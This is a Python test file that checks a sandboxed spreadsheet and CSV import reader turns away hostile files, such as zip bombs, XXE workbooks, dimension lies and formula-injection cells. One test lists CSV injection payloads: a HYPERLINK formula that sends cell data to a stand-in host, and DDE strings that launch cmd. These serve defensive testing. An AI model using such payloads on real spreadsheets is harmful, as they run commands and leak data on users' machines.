"""The bad-file corpus, read as every file from outside is: in a reader process with hard limits.
Each file is refused with `import.unreadable` and the limit it broke (or, for formulas, with
an error rule on the cell), never a trace; the reader's own process is what takes the blow.

Files are generated here, small on disk (tests/imports/hostile.py). Before the reader process
and its checks, the dimension lie and the far cell aborted the process reading them (a 512 GiB
allocation), the zip bomb took gigabytes, the one-line CSV eight."""

from __future__ import annotations

import os
import string
import threading
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemis.imports import UnreadableFile, read_table
from hemis.imports.limits import ReadLimits, check_dimension, check_header_line
from hemis.imports.sandbox import read_sandboxed, read_upload
from hemis.imports.validate import validate

from . import hostile
from .samples import AS_OF, check_file, learner_rows, rules_hit, write_xlsx

Builder = Callable[[Path], Path]
SMALL = ReadLimits(memory_mb=1024, max_unzipped_mb=16)
CORPUS: list[tuple[str, Builder, str, dict[str, object]]] = [
    ("dimension-lie", hostile.dimension_lie, ".xlsx", {"limit": "columns", "found": 16384}),
    ("far-cell", hostile.far_cell, ".xlsx", {"reason": "memory"}),
    ("zip-bomb", lambda p: hostile.zip_bomb(p, 12), ".xlsx", {"limit": "zip_ratio"}),
    ("large", lambda p: hostile.large_workbook(p, 17), ".xlsx", {"limit": "unzipped_mb"}),
    ("xxe-sheet", hostile.xxe_workbook, ".xlsx", {"limit": "dtd"}),
    (
        "xxe-workbook",
        lambda p: hostile.xxe_workbook(p, "xl/workbook.xml"),
        ".xlsx",
        {"limit": "dtd", "part": "xl/workbook.xml"},
    ),
    ("wide-csv", hostile.wide_csv, ".csv", {"limit": "columns"}),
    ("one-line-csv", hostile.one_line_csv, ".csv", {"limit": "header_line"}),
    ("long-cell", hostile.long_cell_csv, ".csv", {"limit": "cell_chars", "column": "full_name"}),
    ("non-utf8-csv", hostile.non_utf8_csv, ".csv", {}),
    ("non-utf8-parquet", hostile.non_utf8_parquet, ".parquet", {"column": "full_name"}),
]


@pytest.mark.parametrize(
    ("build", "suffix", "expected"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS]
)
def test_a_hostile_file_is_refused_by_its_reader(
    build: Builder, suffix: str, expected: dict[str, object], tmp_path: Path
) -> None:
    path = build(tmp_path / f"hostile{suffix}")
    assert path.stat().st_size < 4 << 20  # small on disk, whatever it claims to be
    with pytest.raises(UnreadableFile) as caught:
        read_sandboxed(path, "learners", limits=SMALL)
    error = caught.value
    assert error.code == "import.unreadable"
    assert expected.items() <= (error.details or {}).items(), error.details
    assert error.message_vi
    assert error.message_en
    assert "Traceback" not in error.message_en


def test_an_upload_in_memory_is_refused_the_same_way(tmp_path: Path) -> None:
    payload = hostile.dimension_lie(tmp_path / "x.xlsx").read_bytes()
    with pytest.raises(UnreadableFile) as caught:
        read_upload(payload, "hoc-vien.xlsx", "learners", SMALL)
    assert caught.value.details == {
        "limit": "columns",
        "max": 1000,
        "found": 16384,
        "dimension": "A1:XFD1048576",
    }


def test_a_reader_that_never_finishes_is_stopped(tmp_path: Path) -> None:
    """A named pipe nobody writes to: the reader waits for ever, the wall clock stops it."""
    path = tmp_path / "pipe.csv"
    os.mkfifo(path)
    with pytest.raises(UnreadableFile) as caught:
        read_sandboxed(path, "learners", limits=ReadLimits(seconds=2))
    assert caught.value.details == {"reason": "time"}


def test_the_reader_gives_back_exactly_what_an_in_process_read_gives(tmp_path: Path) -> None:
    rows = learner_rows([{}, {"student_code": "SV2", "full_name": "Lê Thị Hoa"}])
    merged = lambda _b, ws: ws.merge_range(1, 3, 2, 3, "x")  # noqa: E731
    path = write_xlsx(tmp_path / "l.xlsx", rows, setup=merged)
    here, there = read_table(path, "learners"), read_sandboxed(path, "learners")
    assert there.frame.equals(here.frame)
    assert (there.format, there.header_row, there.sheet, there.encoding) == (
        here.format,
        here.header_row,
        here.sheet,
        here.encoding,
    )
    assert there.findings == here.findings
    assert there.findings  # the merged cells


def test_an_ordinary_large_workbook_passes_the_checks(tmp_path: Path) -> None:
    """Real sheets compress ten- to twentyfold, far below the zip-bomb ratio."""
    frame = pl.DataFrame([hostile.LEARNER] * 20_000).with_columns(
        pl.format("SV{}", pl.int_range(pl.len())).alias("student_code")
    )
    path = tmp_path / "big.xlsx"
    frame.write_excel(path, worksheet="learners")
    assert read_sandboxed(path, "learners").frame.height == 20_000


def test_values_that_a_spreadsheet_would_run_as_formulas_are_errors(tmp_path: Path) -> None:
    payloads = [
        '=HYPERLINK("http://x.invalid/?"&A2,"xem")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ]
    path = hostile.csv_file(
        tmp_path / "f.csv",
        *({"student_code": f"SV{i}", "full_name": p} for i, p in enumerate(payloads)),
    )
    report = check_file(path)
    bad = report.issues.filter(pl.col("rule") == "LRN.full_name.formula")
    assert bad["row"].to_list() == [2, 3, 4, 5]
    assert report.has_errors


def test_a_formula_cell_caching_a_formula_is_an_error(tmp_path: Path) -> None:
    table = read_sandboxed(hostile.formula_workbook(tmp_path / "f.xlsx"), "learners")
    report = validate("learners", table.frame, as_of=AS_OF, findings=table.findings, header_row=1)
    assert {"FILE.cell.formula", "LRN.full_name.formula"} <= rules_hit(report)
    assert report.has_errors


COLUMN = st.text(string.ascii_uppercase, min_size=1, max_size=3)


@given(c1=COLUMN, r1=st.integers(1, 1_048_576), c2=COLUMN, r2=st.integers(1, 1_048_576))
def test_a_declared_range_is_refused_exactly_past_the_limits(
    c1: str, r1: int, c2: str, r2: int
) -> None:
    limits = ReadLimits(max_columns=1000, max_sheet_cells=2_000_000)
    columns = abs(hostile_column_number(c2) - hostile_column_number(c1)) + 1
    rows = abs(r2 - r1) + 1
    head = f'<worksheet><dimension ref="{c1}{r1}:{c2}{r2}"/><sheetData>'.encode()
    if columns > 1000 or rows * columns > 2_000_000:
        with pytest.raises(UnreadableFile):
            check_dimension(head, limits)
    else:
        check_dimension(head, limits)


def hostile_column_number(letters: str) -> int:
    number = 0
    for ch in letters:
        number = number * 26 + ord(ch) - 64
    return number


@given(fields=st.integers(1, 3000), separator=st.sampled_from([",", ";", "\t"]))
def test_a_csv_header_is_refused_exactly_past_the_column_limit(fields: int, separator: str) -> None:
    head = separator.join(["c"] * fields).encode() + b"\nrow\n"
    limits = ReadLimits(max_columns=1000)
    if fields > 1000:
        with pytest.raises(UnreadableFile):
            check_header_line(head, separator, True, limits)
    else:
        check_header_line(head, separator, True, limits)


def test_readers_run_side_by_side(tmp_path: Path) -> None:
    """Two reader processes at once (two web workers, or a worker and the CLI)."""
    bad = hostile.far_cell(tmp_path / "bad.xlsx")
    good = hostile.plain_workbook(tmp_path / "ok.xlsx")
    results: dict[str, object] = {}

    def read(name: str, path: Path) -> None:
        try:
            results[name] = read_sandboxed(path, "learners", limits=SMALL).frame.height
        except UnreadableFile as exc:
            results[name] = exc.details

    threads = [threading.Thread(target=read, args=a) for a in (("bad", bad), ("good", good))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert results == {"bad": {"reason": "memory"}, "good": 1}
